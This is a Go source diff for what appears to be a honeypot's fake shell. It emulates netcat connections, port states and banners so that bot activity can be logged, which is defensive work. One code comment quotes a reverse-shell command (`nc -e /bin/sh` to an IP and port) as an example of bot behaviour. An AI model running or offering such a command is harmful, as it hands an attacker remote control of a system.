@@ -0,0 +1,97 @@
+package main
+
+import (
+	"fmt"
+	"math/rand"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// cmdNetcat emulates the connecting side of nc, which bots use for reverse
+// shells (`nc -e /bin/sh 10.0.0.1 4444`) and to check ports. Unless the C2 of
+// a reverse shell is live the fake network answers, see network.go.
+// Listening returns right away.
+func cmdNetcat(fs *FakeShell, line string) (exit bool) {
+	args := fs.Args(line)
+	operands := []string{}
+	execute, zero, verbose, wait := false, false, false, 0
+	for i := 1; i < len(args); i++ {
+		arg := args[i]
+		switch {
+		case strings.HasPrefix(arg, "-") && strings.Contains(arg, "l"):
+			return false
+		case arg == "-e" || arg == "-c":
+			execute = true
+			i++
+		case arg == "-w" && i+1 < len(args):
+			wait, _ = strconv.Atoi(args[i+1])
+			i++
+		case arg == "-p" || arg == "-s" || arg == "-i":
+			i++ // these take an argument
+		case strings.HasPrefix(arg, "-"):
+			zero = zero || strings.Contains(arg, "z")
+			verbose = verbose || strings.Contains(arg, "v")
+		default:
+			operands = append(operands, arg)
+		}
+	}
+	if len(operands) < 2 {
+		fs.SetStatus(exitStatusFailure)
+		fs.RecordError("usage: nc [-46CDdFhklNnrStUuvZz] [-I length] [-i interval] [-M ttl]\n\t  [-m minttl] [-O length] [-P proxy_username] [-p source_port]\n\t  [-q seconds] [-s source] [-T keyword] [-V rtable] [-W recvlimit] [-w timeout]\n\t  [-X proxy_protocol] [-x proxy_address[:port]] [destination] [port]")
+		return false
+	}
+
+	target := operands[0]
+	_, live := fs.reverseShells(fmt.Sprintf("nc %s %s", target, operands[1]))
+	if live {
+		time.Sleep(time.Duration(500+rand.Intn(1500)) * time.Millisecond)
+		return false
+	}
+
+	port := netPort(operands[1])
+	h := fs.netHost(target)
+	if port == 0 || h == nil {
+		fs.netContact("nc", target, port, "unknown")
+		fs.SetStatus(exitStatusFailure)
+		fs.RecordError(fmt.Sprintf("nc: getaddrinfo for host \"%s\" port %s: Name or service not known", target, operands[1]))
+		return false
+	}
+	if h.Unreachable {
+		fs.netContact("nc", target, port, "unreachable")
+		fs.SetStatus(exitStatusFailure)
+		fs.RecordError(fmt.Sprintf("nc: connect to %s port %d (tcp) failed: Network is unreachable", target, port))
+		return false
+	}
+
+	state, banner := h.Port(port)
+	fs.netContact("nc", target, port, state)
+	switch state {
+	case PortClosed:
+		fs.SetStatus(exitStatusFailure)
+		fs.RecordError(fmt.Sprintf("nc: connect to %s port %d (tcp) failed: Connection refused", target, port))
+	case PortFiltered:
+		fs.netTimeout(wait)
+		fs.SetStatus(exitStatusFailure)
+		fs.RecordError(fmt.Sprintf("nc: connect to %s port %d (tcp) failed: Connection timed out", target, port))
+	default:
+		time.Sleep(time.Duration(h.RTT() * float64(time.Millisecond)))
+		if zero || verbose {
+			service, ok := networkServices[port]
+			if !ok {
+				service = "*"
+			}
+			fs.RecordError(fmt.Sprintf("Connection to %s %d port [tcp/%s] succeeded!", target, port, service))
+		}
+		if !zero && !execute && banner != "" {
+			fs.RecordWriteLn(banner)
+		}
+	}
+	return false
+}
+
+func init() {
+	CmdRegistry.Register("nc", cmdNetcat)
+	CmdRegistry.Register("ncat", cmdNetcat)
+	CmdRegistry.Register("netcat", cmdNetcat)
+}